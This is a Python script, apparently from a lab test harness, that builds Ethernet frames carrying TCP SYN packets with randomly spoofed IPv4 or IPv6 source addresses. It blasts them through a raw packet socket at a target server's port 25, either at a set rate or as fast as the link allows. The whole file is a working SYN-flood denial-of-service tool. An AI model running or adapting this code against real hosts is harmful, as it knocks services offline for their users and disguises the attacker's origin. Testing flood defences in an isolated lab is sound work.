"""Sends SYNs from spoofed addresses, as many a second as asked, from frames made beforehand. Runs on a lab's host.

Prints ``ready`` when it begins, and at its end how many it sent. What a full wire does not take is not sent again.
"""

from __future__ import annotations

import argparse
import errno
import random
import socket
import struct
import time
from ipaddress import ip_address, ip_network

from bridge.segment import checksum

SYN = 0x02
TICK_S = 0.01


def syn(source: bytes, server: bytes, source_port: int, sequence: int) -> bytes:
    """An IP packet."""
    tcp = struct.pack("!HHIIBBHHHBBH", source_port, 25, sequence, 0, 6 << 4, SYN, 64240, 0, 0, 2, 4, 1460)
    ends = source + server
    total = checksum(ends + struct.pack("!IHBB", len(tcp), 0, 0, 6) + tcp)
    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
    if len(source) == 16:
        return struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + ends + tcp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + tcp


def frames(arguments: argparse.Namespace) -> list[bytes]:
    noise, network, server = random.Random(1), ip_network(arguments.sources), ip_address(arguments.server).packed
    head = bytes.fromhex((arguments.to + arguments.by).replace(":", "")) + (
        b"\x08\x00" if len(server) == 4 else b"\x86\xdd"
    )
    first, size = int(network.network_address), network.num_addresses
    made = []
    for _ in range(arguments.frames):
        source = (first + noise.randrange(size)).to_bytes(len(server), "big")
        made.append(head + syn(source, server, noise.randrange(1024, 65536), noise.getrandbits(32)))
    return made


def taken(out: socket.socket, frame: bytes) -> bool:
    try:
        out.send(frame)
    except OSError as failure:
        if failure.errno != errno.ENOBUFS:
            raise
        return False
    return True


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("server")
    parser.add_argument("--to", required=True, help="destination MAC")
    parser.add_argument("--by", required=True, help="source MAC")
    parser.add_argument("--sources", required=True, help="network of the spoofed addresses")
    parser.add_argument("--rate", type=int, default=0, help="SYNs a second; 0: as many as it can")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--count", type=int, default=0, help="end after so many")
    parser.add_argument("--frames", type=int, default=20000, help="made beforehand, then repeated")
    arguments = parser.parse_args()
    made = frames(arguments)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind(("eth0", 0))
    print("ready", flush=True)
    began_at, sent, lost = time.monotonic(), 0, 0
    while (passed_s := time.monotonic() - began_at) < arguments.seconds and (
        not arguments.count or sent < arguments.count
    ):
        due = int(passed_s * arguments.rate) if arguments.rate else sent + 500
        for number in range(sent, min(due, arguments.count or due)):
            lost += not taken(out, made[number % len(made)])
        sent = max(sent, min(due, arguments.count or due))
        if arguments.rate:
            time.sleep(TICK_S)
    print(sent - lost, flush=True)


if __name__ == "__main__":
    main()
